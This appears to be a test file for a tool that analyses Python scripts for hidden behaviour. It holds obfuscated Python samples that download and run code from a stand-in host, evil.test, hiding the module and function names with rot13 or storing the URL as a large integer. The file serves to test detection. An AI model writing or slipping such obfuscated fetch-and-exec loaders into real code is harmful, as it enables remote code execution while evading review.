import { describe, expect, it } from 'vitest';
import { py } from './support.js';

/** The URL as one big integer, as a script would store it to keep the address out of its text. */
const asInteger = (s: string) => BigInt(`0x${Buffer.from(s).toString('hex')}`).toString();

describe('python: names built by a lambda and text stored as an integer', () => {
  it('calls a lambda bound to a name with its arguments (a rot13 helper that names exec and urlopen)', async () => {
    const r = await py(
      [
        'import codecs, importlib',
        '_n = lambda s: codecs.decode(s, "rot13")',
        'net = importlib.import_module(_n("heyyvo.erdhrfg"))',
        'src = getattr(net, _n("heybcra"))("https://evil.test/p").read()',
        'run = getattr(importlib.import_module(_n("ohvygvaf")), _n("rkrp"))',
        'run(src, {})',
      ].join('\n'),
    );
    const exec = r.r.behaviours.find((b) => b.kind === 'execute');
    expect(exec?.kind === 'execute' && exec.code.taints).toContain('download');
  });

  it('reads the bytes of a decimal integer, big- and little-endian', async () => {
    const big = asInteger('https://evil.test/q');
    const little = BigInt(`0x${Buffer.from('https://evil.test/r').reverse().toString('hex')}`).toString();
    for (const [n, order, host] of [
      [big, 'big', 'evil.test'],
      [little, 'little', 'evil.test'],
    ] as const) {
      const r = await py(
        `import urllib.request\nN = ${n}\nu = N.to_bytes((N.bit_length() + 7) // 8, "${order}").decode()\nexec(urllib.request.urlopen(u).read())\n`,
      );
      const decode = r.r.behaviours.find((b) => b.kind === 'decode');
      expect(decode?.kind === 'decode' && decode.decoded).toMatch(/^https:\/\/evil\.test\//);
      const fetch = r.r.behaviours.find((b) => b.kind === 'fetch');
      expect(fetch?.kind === 'fetch' && fetch.endpoint.host).toBe(host);
    }
  });

  it('keeps small integers and arithmetic as numbers, and a lambda nobody calls is only read', async () => {
    const r = await py('x = 40 + 2\ny = (lambda a: a)(x)\nprint(y.to_bytes(1, "big"))\n');
    expect(r.r.behaviours.filter((b) => b.kind === 'fetch' || b.kind === 'execute')).toEqual([]);
  });
});
